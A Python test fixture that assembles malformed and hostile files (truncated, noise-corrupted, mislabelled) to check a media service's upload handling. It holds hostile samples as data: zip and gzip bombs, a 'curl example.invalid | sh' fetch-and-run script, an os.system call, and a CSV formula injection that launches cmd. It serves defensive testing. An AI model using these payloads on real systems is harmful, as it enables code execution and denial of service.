"""All of them together: cut, bent, named falsely, and files that are something else altogether."""

import gzip
import io
import random
import zipfile

from tests.studio.hostile.manifests import manifests
from tests.studio.hostile.pictures import PAYLOAD, pictures
from tests.studio.hostile.recordings import recordings
from tests.studio.hostile.samples import good


def corpus() -> dict[str, bytes]:
    """Every broken or hostile file that names no other, by a name for it."""
    return cut() | bent() | pictures() | manifests() | recordings() | others() | beginnings()


def cut() -> dict[str, bytes]:
    """Every format broken off at every tenth."""
    return {
        f"{name} cut at {tenth} tenths": data[: len(data) * tenth // 10]
        for name, data in good().items()
        for tenth in range(1, 10)
    }


def bent() -> dict[str, bytes]:
    """Every format with some bytes of noise in it, from the fortieth byte on."""
    found = {}
    for name, data in good().items():
        for seed in range(3):
            rng, bytes_ = random.Random(f"{name} {seed}"), bytearray(data)
            for _ in range(20):
                bytes_[rng.randrange(40, len(bytes_))] = rng.randrange(256)
            found[f"{name} bent {seed}"] = bytes(bytes_)
    return found


def beginnings() -> dict[str, bytes]:
    """The first bytes of every format, with nothing or with noise behind them."""
    noise = random.Random(9).randbytes(5000)
    found = {}
    for name, data in good().items():
        found[f"beginning of {name}"] = data[:12]
        found[f"beginning of {name} and noise"] = data[:12] + noise
    return found


def others() -> dict[str, bytes]:
    """What is no photo, film or sound at all, whatever it is called."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("bomb.png", bytes(20_000_000))
    return {
        "nothing": b"",
        "one byte": b"\xff",
        "two bytes": b"\xff\xfb",
        "white space": b" \n" * 500,
        "zeros": bytes(10_000),
        "ones": b"\xff" * 10_000,
        "noise": random.Random(1).randbytes(10_000),
        "zip bomb": archive.getvalue(),
        "gzip bomb": gzip.compress(bytes(20_000_000)),
        "xz": b"\xfd7zXZ\0" + bytes(100),
        "7z": b"7z\xbc\xaf\x27\x1c" + bytes(100),
        "rar": b"Rar!\x1a\x07\x01\0" + bytes(100),
        "tar": b"a" * 257 + b"ustar\0" + bytes(300),
        "elf": b"\x7fELF\x02\x01\x01" + bytes(100),
        "exe": b"MZ\x90\0" + bytes(100),
        "java": b"\xca\xfe\xba\xbe" + bytes(100),
        "wasm": b"\0asm\x01\0\0\0",
        "swf": b"CWS\x0a" + bytes(100),
        "shell": b"#!/bin/sh\ncurl example.invalid | sh\n",
        "python": b"import os\nos.system('id')\n",
        "php": PAYLOAD,
        "sqlite": b"SQLite format 3\0" + bytes(100),
        "json": b'{"a": [1, 2]}',
        "csv": b"=cmd|' /C calc'!A0,1\n",
        "pickle": b"\x80\x04\x95\x10\0\0\0\0\0\0\0\x8c\x05posix\x94.",
        "npy": b"\x93NUMPY\x01\0v\0{'descr': '|O'}",
        "torrent": b"d8:announce3:abce",
        "mail": b"From: a\nTo: b\n\nhello\n",
        "docx": archive.getvalue()[:200],
        "font": b"\0\x01\0\0\0\x0f" + bytes(100),
        "iso": bytes(32_769) + b"CD001",
        "utf-16": "#EXTM3U\nfile".encode("utf-16"),
    }
